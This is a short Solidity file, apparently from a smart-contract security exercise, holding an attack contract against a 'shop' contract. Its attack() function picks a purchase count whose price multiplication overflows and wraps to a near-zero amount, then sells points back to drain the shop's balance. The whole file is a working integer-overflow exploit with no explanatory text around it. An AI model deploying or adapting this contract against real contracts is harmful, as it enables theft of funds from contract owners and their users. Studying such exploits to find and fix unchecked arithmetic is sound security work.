// SPDX-License-Identifier: Apache-2.0
pragma solidity 0.8.37;

interface IShop {
    function buy(uint256 count) external payable;
    function sell(uint256 count) external;
}

// #region contract
/// Buys so many points that their price wraps around, and sells those that the shop can pay.
contract Wrapper {
    IShop private immutable shop;

    constructor(IShop target) {
        shop = target;
    }

    function attack() external payable {
        uint256 count = type(uint256).max / 1 ether + 1;
        uint256 price;
        unchecked {
            price = count * 1 ether;
        }
        shop.buy{value: price}(count);
        shop.sell(address(shop).balance / 1 ether);
    }

    receive() external payable {}
}
// #endregion contract
